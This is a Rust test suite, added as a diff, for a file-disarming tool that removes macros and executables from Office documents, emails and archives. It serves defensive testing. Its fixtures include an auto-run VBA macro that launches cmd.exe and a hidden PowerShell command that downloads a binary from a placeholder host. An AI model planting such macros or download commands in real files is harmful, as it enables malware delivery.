@@ -1,0 +1,309 @@
+//! Disarmed files: free of what had to go, the same the second time, and byte for byte the old ones elsewhere.
+
+use std::collections::BTreeSet;
+use std::io::Cursor;
+use std::path::Path;
+use std::time::Duration;
+
+use bytes::Bytes;
+use sekisho::engine::{Context, Engine, Input, Worker};
+use sekisho::limits::{Budget, Limits};
+use sekisho::model::{Family, Name, Report, Severity};
+use sekisho::rewrite::disarm::{Notices, Proven, Refusal, Retype, Selection, Task, proven};
+use sekisho::rewrite::{DISARMED_FILES, FILES, Notice};
+
+use crate::bench::{Dice, engine, engine_within};
+use crate::build::{self, Part, attachment, docx, program};
+use crate::mutate::{fixtures, mutate, number};
+use crate::support::Folder;
+
+/// What the program does with a file where nothing is said.
+pub(crate) fn disarm(
+    engine: &Engine,
+    worker: &mut Worker<'_>,
+    name: &str,
+    data: &[u8],
+) -> (Report, Option<Result<Proven, Refusal>>) {
+    let mut scan = |data: &Bytes| {
+        worker.scan(Input {
+            path: name.to_owned(),
+            name: Some(Name::of(name)),
+            data: data.clone(),
+            facts: Vec::new(),
+            context: Context::default(),
+        })
+    };
+    let report = scan(&Bytes::copy_from_slice(data));
+    let catalogue = &engine.knowledge.catalogue;
+    let findings = Selection::usual().unwrap().of(&report, catalogue);
+    if findings.is_empty() || !report.complete {
+        return (report, None);
+    }
+    let notice = Notice {
+        templates: FILES,
+        disarmed: DISARMED_FILES,
+        catalogue,
+        report: &report,
+        ticket: "-",
+    };
+    let task = Task {
+        report: &report,
+        findings: &findings,
+        strip: &BTreeSet::new(),
+        notices: Notices::From(Severity::Medium.score()),
+        retype: Retype::Keep,
+        break_signatures: false,
+        notice: &|part, removed| notice.text(part, removed),
+        line: &|part| notice.line(part),
+    };
+    let budget = Budget::new(engine.limits.clone(), None);
+    let made = proven(&task, &budget, &mut scan);
+    (report, Some(made))
+}
+
+/// Members of a zip with their packed bytes.
+fn packed(data: &[u8]) -> Option<Vec<(String, Vec<u8>, u32)>> {
+    let mut archive = zip::ZipArchive::new(Cursor::new(data)).ok()?;
+    let mut members = Vec::new();
+    for at in 0..archive.len() {
+        let (name, crc, from, len) = {
+            let member = archive.by_index_raw(at).ok()?;
+            let from = usize::try_from(member.data_start()?).unwrap();
+            let len = usize::try_from(member.compressed_size()).unwrap();
+            (member.name().ok()?.into_owned(), member.crc32(), from, len)
+        };
+        members.push((name, data.get(from..from + len)?.to_vec(), crc));
+    }
+    Some(members)
+}
+
+#[test]
+fn what_is_disarmed_is_free_of_it_keeps_the_rest_and_stays_the_second_time() {
+    let engine = engine();
+    let mut worker = Worker::new(&engine);
+    let (mut packages, mut kept) = (0, 0);
+    let mut refused = Vec::new();
+    for path in fixtures() {
+        let data = std::fs::read(&path).unwrap();
+        let name = path.file_name().unwrap().to_string_lossy().into_owned();
+        let (before, made) = disarm(&engine, &mut worker, &name, &data);
+        let family = before.artifacts[0].kind.family();
+        let proven = match made {
+            None => continue,
+            Some(Ok(proven)) => proven,
+            Some(Err(refusal)) => {
+                let package = family == Family::Ooxml && data.starts_with(b"PK");
+                if package {
+                    refused.push(format!("{}: {refusal}", path.display()));
+                }
+                continue;
+            }
+        };
+        let place = path.display();
+        let removed = proven.made.deeds.iter().flat_map(|deed| &deed.removed);
+        let removed: BTreeSet<&str> = removed.map(|one| one.finding.as_ref()).collect();
+        let left = proven
+            .report
+            .findings
+            .iter()
+            .find(|found| removed.contains(found.id.as_ref()));
+        assert!(left.is_none(), "{place}: {left:?}");
+        assert!(proven.report.score <= before.score, "{place}");
+        let (_, again) = disarm(&engine, &mut worker, &name, &proven.made.data);
+        assert!(again.is_none(), "{place}: {again:?}");
+        if family == Family::Ooxml && data.starts_with(b"PK") {
+            packages += 1;
+            let (old, new) = (packed(&data).unwrap(), packed(&proven.made.data).unwrap());
+            for (name, bytes, crc) in &new {
+                let same = |(known, _, sum): &&(String, Vec<u8>, u32)| known == name && sum == crc;
+                if let Some((_, was, _)) = old.iter().find(same) {
+                    assert_eq!(was, bytes, "{place}: {name} was packed again");
+                    kept += 1;
+                }
+            }
+        }
+    }
+    assert_eq!(refused, Vec::<String>::new());
+    assert!(
+        packages >= 8 && kept >= 20,
+        "{packages} packages, {kept} parts"
+    );
+}
+
+#[test]
+fn damaged_packages_are_refused_or_no_worse() {
+    let full = std::env::var_os("SEKISHO_TEST_FULL").is_some();
+    let rounds = number("SEKISHO_FUZZ_ROUNDS").unwrap_or(if full { 60 } else { 4 });
+    let limits = Limits {
+        timeout: Duration::from_secs(5),
+        max_unpacked: 64 << 20,
+        max_artifacts: 2000,
+        ..Limits::default()
+    };
+    let engine = engine_within(limits);
+    let mut worker = Worker::new(&engine);
+    let mut dice = Dice::new(11);
+    let mut tried = 0;
+    for path in fixtures() {
+        let data = std::fs::read(&path).unwrap();
+        let name = path.file_name().unwrap().to_string_lossy().into_owned();
+        if disarm(&engine, &mut worker, &name, &data).1.is_none() {
+            continue;
+        }
+        for _ in 0..rounds {
+            let mut damaged = data.clone();
+            mutate(&mut damaged, &data, &mut dice);
+            let (before, made) = disarm(&engine, &mut worker, &name, &damaged);
+            if let Some(Ok(proven)) = made {
+                assert!(proven.report.score <= before.score, "{}", path.display());
+                tried += 1;
+            }
+        }
+    }
+    assert!(tried > 10, "only {tried} damaged files were disarmed");
+}
+
+const TEXT: &str = "Content-Type: text/plain; charset=us-ascii";
+const WORD: &str = "Content-Type: application/vnd.ms-word.document.macroEnabled.12; name=\"a.docm\"\nContent-Disposition: attachment; filename=\"a.docm\"\nContent-Transfer-Encoding: base64";
+const PLAIN: &str = "Content-Type: application/octet-stream; name=\"plain.docx\"\nContent-Disposition: attachment; filename=\"plain.docx\"\nContent-Transfer-Encoding: base64";
+const ZIP: &str = "Content-Type: application/zip; name=\"a.zip\"\nContent-Disposition: attachment; filename=\"a.zip\"\nContent-Transfer-Encoding: base64";
+
+fn with_macro() -> Vec<u8> {
+    let code = "Sub AutoOpen()\n    CreateObject(\"WScript.Shell\").Run \"cmd.exe /c echo done\", 0\nEnd Sub\n";
+    build::docm("Report", &[("Module1", build::module("Module1", code))])
+}
+
+#[test]
+fn a_mail_keeps_every_byte_but_those_of_the_part_that_changes() {
+    let text = Part {
+        headers: TEXT,
+        body: b"Dear all,  \r\nsee below".to_vec(),
+    };
+    let message = build::mail(
+        "x",
+        &[
+            text,
+            attachment(WORD, &with_macro()),
+            attachment(PLAIN, &docx("Plain")),
+        ],
+    );
+    let engine = engine();
+    let mut worker = Worker::new(&engine);
+    let (_, made) = disarm(&engine, &mut worker, "mail.eml", &message);
+    let proven = made.unwrap().unwrap();
+    let new = String::from_utf8(proven.made.data.to_vec()).unwrap();
+    let old = String::from_utf8(message).unwrap();
+    let word = WORD.replace('\n', "\r\n");
+    let (before, rest) = old.split_once(&word).unwrap();
+    let after = &rest[rest.find("\r\n--=_sekisho").unwrap()..];
+    assert!(new.starts_with(before) && new.ends_with(after), "{new}");
+    let middle = &new[before.len()..new.len() - after.len()];
+    let (notice, part) = middle.split_once("\r\n--=_sekisho\r\n").unwrap();
+    assert!(part.starts_with(&word), "{middle}");
+    assert!(
+        notice.contains("filename=\"disarmed-0002.txt\""),
+        "{notice}"
+    );
+    let said = &notice[notice.find("\r\n\r\n").unwrap()..];
+    let said = said.replace("=\r\n", "").replace('\n', "");
+    assert!(
+        said.contains("word/vbaProject.bin") && said.contains("=E3=83=9E=E3=82=AF=E3=83=AD"),
+        "{said}"
+    );
+}
+
+#[test]
+fn bad_members_of_archives_give_way_to_notices_and_documents_stay() {
+    let inner = build::zip(&[
+        ("報告/a.docm", &with_macro()),
+        ("tool.exe", &program()),
+        ("note.txt", b"a note\r\n"),
+    ]);
+    let engine = engine();
+    let mut worker = Worker::new(&engine);
+    let (_, made) = disarm(&engine, &mut worker, "a.zip", &inner);
+    let proven = made.unwrap().unwrap();
+    let members = packed(&proven.made.data).unwrap();
+    let names: Vec<&str> = members.iter().map(|(name, ..)| name.as_str()).collect();
+    assert_eq!(names, ["報告/a.docm", "tool.exe.txt", "note.txt"]);
+    assert_eq!(members[2], packed(&inner).unwrap()[2]);
+    // The same in a mail, and in an archive of another format.
+    let mail = build::mail("x", &[attachment(ZIP, &inner)]);
+    let (_, made) = disarm(&engine, &mut worker, "mail.eml", &mail);
+    let proven = made.unwrap().unwrap();
+    let names: Vec<&str> = proven
+        .report
+        .artifacts
+        .iter()
+        .map(|one| one.label())
+        .collect();
+    assert!(
+        names.contains(&"tool.exe.txt") && names.contains(&"note.txt"),
+        "{names:?}"
+    );
+    assert!(!names.contains(&"tool.exe"));
+    let script = b"@echo off\r\npowershell -w hidden -c \"iwr http://example.invalid/a.bin -OutFile a.bin\"\r\n";
+    for archive in crate::build_archives::all(script) {
+        let (before, made) = disarm(&engine, &mut worker, "archive", &archive);
+        let kind = before.artifacts[0].kind;
+        // Locked, or cut off.
+        let Some(proven) = made else {
+            assert!(!before.complete, "{kind}: nothing found");
+            continue;
+        };
+        let proven = proven.unwrap_or_else(|refusal| panic!("{kind}: {refusal}"));
+        assert_eq!(proven.report.artifacts[0].kind.as_str(), "zip", "{kind}");
+        assert_eq!(
+            proven.made.extension,
+            Some("zip").filter(|_| kind.as_str() != "zip")
+        );
+    }
+}
+
+#[test]
+fn the_command_writes_says_and_refuses() {
+    let folder = Folder::new();
+    let macros = with_macro();
+    folder.file("a.docm", &macros);
+    folder.file("plain.docx", docx("Plain"));
+    folder.file("tool.exe", program());
+    let dry = folder.run(&["disarm", "a.docm", "--dry-run"]);
+    assert_eq!(dry.code, 0, "{dry:?}");
+    assert!(
+        dry.stdout
+            .contains("- VBA macro (vba-macro): word/vbaProject.bin"),
+        "{dry:?}"
+    );
+    let run = folder.run(&[
+        "disarm", "a.docm", "-o", "out.docm", "--rename", "--format", "json",
+    ]);
+    assert_eq!(run.code, 0, "{run:?}");
+    let told = run.json();
+    assert_eq!(told["status"], "disarmed");
+    assert_eq!(told["output"], "out.docx");
+    assert_eq!(told["after"]["level"], "clean");
+    let scan = folder.run(&["scan", "out.docx", "--format", "json"]);
+    assert_eq!(scan.json()["artifacts"][0]["kind"], "docx");
+    let again = folder.run(&["disarm", "a.docm", "-o", "out.docx"]);
+    assert_eq!(
+        again.code, 2,
+        "an existing file is never written over: {again:?}"
+    );
+    let same = folder.run(&["--lang", "ja", "disarm", "plain.docx", "-o", "same.docx"]);
+    assert_eq!(same.code, 0, "{same:?}");
+    assert!(same.stdout.contains("取り除くものはありません"), "{same:?}");
+    let copy = std::fs::read(folder.path("same.docx")).unwrap();
+    assert_eq!(copy, docx("Plain"));
+    let refused = folder.run(&["disarm", "tool.exe", "-o", "tool.out"]);
+    assert_eq!(refused.code, 1, "{refused:?}");
+    assert!(!Path::new(&folder.path("tool.out")).exists());
+    let only = folder.run(&["disarm", "a.docm", "-o", "only.docm", "--only", "dde-link"]);
+    assert_eq!(only.code, 0, "{only:?}");
+    assert!(std::fs::read(folder.path("only.docm")).unwrap() == macros);
+    let unknown = folder.run(&["disarm", "a.docm", "--dry-run", "--only", "macro"]);
+    assert_eq!(unknown.code, 2, "{unknown:?}");
+    assert!(
+        unknown.stderr.contains("neither a group nor an id"),
+        "{unknown:?}"
+    );
+}
